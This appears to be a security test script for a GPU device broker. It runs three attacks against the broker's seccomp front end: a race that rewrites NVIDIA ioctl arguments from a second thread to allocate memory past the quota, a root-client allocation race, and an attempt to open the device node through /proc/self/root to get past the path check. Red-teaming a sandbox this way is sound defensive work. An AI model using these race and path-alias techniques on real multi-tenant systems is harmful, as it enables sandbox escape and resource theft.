"""Racing-thread attacks on the seccomp front end with real driver files (issue 12).

A call the broker lets the kernel continue in the tenant is re-read by the kernel after the
broker decided. These attacks rewrite the argument from a second thread while the first is
in the ioctl, and report what the tenant got. Run inside `devbroker exec` on the real GPU:

    python3 race_attacks.py nvos02-class   # continued OS-descriptor alloc -> 0x40 video memory
    python3 race_attacks.py root-class     # continued root-client alloc -> another class
    python3 race_attacks.py direct-open    # the real node opened past the broker's path check

Each prints one JSON line: {"attack", "result": refused|detected|escaped|not-won, ...}.
A process the broker ends for a detected escape is killed (SIGKILL) mid-attack: the runner
sees that as the exit status and finds the broker's "violation" audit record.
"""
from __future__ import annotations

import ctypes
import fcntl
import json
import mmap
import os
import sys
import threading
import time

from devbroker.abi import iowr
from devbroker.abi import status as nvs
from devbroker.tools.probe import Client

GiB = 1 << 30


def out(**kw) -> None:
    print(json.dumps(kw), flush=True)


_FLIP = None


def _flip_lib():
    """scripts/gpu/flip.c, built here: a C loop, so the rewriting thread holds no GIL and
    runs in parallel with the ioctl (a Python loop spends most of its time between writes)."""
    global _FLIP
    if _FLIP is None:
        src = os.path.join(os.path.dirname(os.path.abspath(__file__)), "flip.c")
        so = f"/tmp/devbroker-flip-{os.getpid()}.so"
        if os.system(f"gcc -O2 -shared -fPIC -o {so} {src}") != 0:
            raise RuntimeError("cannot build flip.c (gcc)")
        _FLIP = ctypes.CDLL(so)
        _FLIP.flip.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_char_p,
                               ctypes.c_ulong, ctypes.c_void_p]
    return _FLIP


class Flipper:
    """Rewrites buf[offset:offset+len(a)] alternately with a and b while in use."""

    def __init__(self, buf, offset: int, a: bytes, b: bytes):
        self.stop = ctypes.c_int(0)
        lib = _flip_lib()
        self.t = threading.Thread(target=lib.flip, args=(
            ctypes.addressof(buf) + offset, a, b, len(a), ctypes.addressof(self.stop)),
            daemon=True)

    def __enter__(self):
        self.t.start()
        return self

    def __exit__(self, *exc):
        self.stop.value = 1
        self.t.join()
        return False


def nvos02_class(tries: int = 400) -> None:
    """NV_ESC_RM_ALLOC_MEMORY of an OS descriptor (0x71) is continued in the tenant (the
    driver pins the caller's own pages). Rewrite its class to NV01_MEMORY_LOCAL_USER (0x40)
    and its limit to 24 GiB while the kernel reads it: device memory past the broker's
    quota check. The broker must notice from the driver's accounting and end the tenant."""
    c = Client()
    c.check_version()
    c.open_root()
    g = c.open_gpu(c.attached_ids()[0])
    gfd = c.gpu_fds[g["minor"]]
    spec = c.abi.escape("NV_ESC_RM_ALLOC_MEMORY")
    page = mmap.mmap(-1, 2 << 20)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    won = 0
    statuses: dict[str, int] = {}
    for i in range(tries):
        h = 0xBEEF0000 + i
        params = c.new("NVOS02_PARAMETERS", hRoot=c.hclient, hObjectParent=g["hdevice"],
                       hObjectNew=h, hClass=0x71, flags=0x40001010, pMemory=base,
                       limit=(2 << 20) - 1)
        v = c.new("nv_ioctl_nvos02_parameters_with_fd", params=params, fd=-1)
        raw = v.encode()
        buf = ctypes.create_string_buffer(raw, len(raw))
        ps = v.spec.by_name["params"].offset
        cls_off = ps + params.spec.by_name["hClass"].offset
        end = ps + params.spec.by_name["limit"].offset + 8
        # hClass, flags, pMemory, limit are one block: flip it whole, so that the kernel reads
        # either the decided call or a consistent 24 GiB non-contiguous video-memory request.
        good = raw[cls_off:end]
        evil = bytearray(good)
        evil[0:4] = (0x40).to_bytes(4, "little")
        evil[4:8] = (0).to_bytes(4, "little")
        evil[-8:] = (24 * GiB - 1).to_bytes(8, "little")
        with Flipper(buf, cls_off, bytes(evil), good):
            try:
                fcntl.ioctl(gfd, iowr(spec.number, len(raw)), buf, True)
                err = 0
            except OSError as e:
                err = e.errno
        got = v.spec.decode(buf.raw)
        st = nvs.name(got.params.status) if not err else f"errno {err}"
        statuses[st] = statuses.get(st, 0) + 1
        # The driver writes the parameters back as it read them: NV_OK with class 0x40 means
        # the kernel allocated the rewritten request (the broker's quota cannot have
        # allowed 24 GiB on an 8 GiB tenant).
        if not err and got.params.status == nvs.NV_OK and got.params.hClass == 0x40:
            won += 1
            out(attack="nvos02-class", result="won-race", note="the broker should kill this "
                "process now", limit=int(got.params.limit))
            time.sleep(3)  # the broker's quota watch looks 50 ms and 1 s after the call
            out(attack="nvos02-class", result="escaped", detail="still alive 3 s after "
                "allocating past the quota")
            return
        if not err and got.params.status == nvs.NV_OK:
            c.free(g["hdevice"], h)
    out(attack="nvos02-class", result="not-won", tries=tries, statuses=statuses)


def root_class(tries: int = 300) -> None:
    """The first root-client allocation on a fresh nvidiactl is continued in the tenant. A
    racing rewrite of hClass/hRoot finds no client on that file, so nothing but a root
    client can come of it; check what each attempt produced."""
    abi = Client().abi
    spec = abi.escape("NV_ESC_RM_ALLOC")
    results: dict[str, int] = {}
    for i in range(tries):
        fd = os.open("/dev/nvidiactl", os.O_RDWR | os.O_CLOEXEC)
        p = abi.struct("NV_MEMORY_ALLOCATION_PARAMS")
        mem = ctypes.create_string_buffer(p.decode(bytes(p.size)).replace(
            size=24 * GiB, alignment=2 << 20, flags=0x1C101, attr=0x18000000).encode())
        v = abi.struct("NVOS64_PARAMETERS")
        val = v.decode(bytes(v.size)).replace(hClass=0x41)
        raw = val.encode()
        buf = ctypes.create_string_buffer(raw, len(raw))
        off = v.by_name["hClass"].offset
        poff = v.by_name["pAllocParms"].offset
        ctypes.memmove(ctypes.addressof(buf) + poff,
                       ctypes.addressof(mem).to_bytes(8, "little"), 8)
        with Flipper(buf, off, (0x40).to_bytes(4, "little"), (0x41).to_bytes(4, "little")):
            try:
                fcntl.ioctl(fd, iowr(spec.number, len(raw)), buf, True)
                err = 0
            except OSError as e:
                err = e.errno
        got = v.decode(buf.raw)
        key = f"errno {err}" if err else f"{nvs.name(got.status)} class-read-back {got.hClass:#x}"
        results[key] = results.get(key, 0) + 1
        os.close(fd)
    # Nothing but root clients (or failures) can come of it: a 0x40 alloc needs a parent
    # client on this file, and there is none.
    out(attack="root-class", result="refused", tries=tries, outcomes=results)


def direct_open() -> None:
    """Open the node by a path the broker's open check does not recognise: the kernel opens
    the real character device. Every ioctl and mmap of that fd must be refused."""
    fd = os.open("/proc/self/root/dev/nvidiactl", os.O_RDWR | os.O_CLOEXEC)
    abi = Client().abi
    spec = abi.escape("NV_ESC_RM_ALLOC")
    v = abi.struct("NVOS64_PARAMETERS")
    buf = bytearray(v.decode(bytes(v.size)).replace(hClass=0x41).encode())
    try:
        fcntl.ioctl(fd, iowr(spec.number, len(buf)), buf, True)
        res = {"result": "escaped", "status": nvs.name(v.decode(bytes(buf)).status)}
    except OSError as e:
        res = {"result": "refused", "errno": e.errno}
    try:
        m = mmap.mmap(fd, 4096)
        m.close()
        res["mmap"] = "mapped"
        res["result"] = "escaped"
    except OSError as e:
        res["mmap"] = f"errno {e.errno}"
    out(attack="direct-open", **res)


if __name__ == "__main__":
    {"nvos02-class": nvos02_class, "root-class": root_class,
     "direct-open": direct_open}[sys.argv[1]]()
